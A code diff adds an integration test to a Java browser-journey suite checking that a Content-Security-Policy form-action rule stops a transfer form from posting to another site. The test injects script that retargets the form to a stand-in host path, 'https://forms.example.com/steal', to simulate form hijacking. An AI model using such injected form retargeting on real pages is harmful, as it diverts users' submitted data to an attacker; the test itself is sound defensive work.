@@ -7,6 +7,7 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import jakarta.mail.internet.MimeMessage;
 import java.net.http.HttpResponse;
 import java.time.Duration;
+import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import org.jboss.arquillian.container.test.api.Deployment;
@@ -131,6 +132,23 @@ class TransferJourneyIT extends BrowserJourney {
         browser.go(setLink);
         assertThat(browser.text(By.tagName("h1"))).isEqualTo("This link was already used");
         browser.screenshot("journey-14-link-already-used");
+    }
+
+    @Test
+    void aFormMadeToPostElsewhereIsNotSentAndChromiumSaysWhy() {
+        // What an injected script would do to a page: point its form at another site.
+        browser.go("/transfer.xhtml");
+        browser.driver().executeScript("document.getElementById('transfer').action = 'https://forms.example.com/steal';");
+
+        browser.click(SUBMIT);
+
+        List<String> refusals = new ArrayList<>();
+        Await.until(() -> {
+            refusals.addAll(browser.contentSecurityPolicyViolations());
+            return refusals;
+        }, seen -> !seen.isEmpty());
+        assertThat(refusals).as("console").allSatisfy(refusal -> assertThat(refusal).contains("form-action"));
+        assertThat(browser.driver().getCurrentUrl()).as("still on the registry").startsWith(browser.url("/"));
     }
 
     @Test
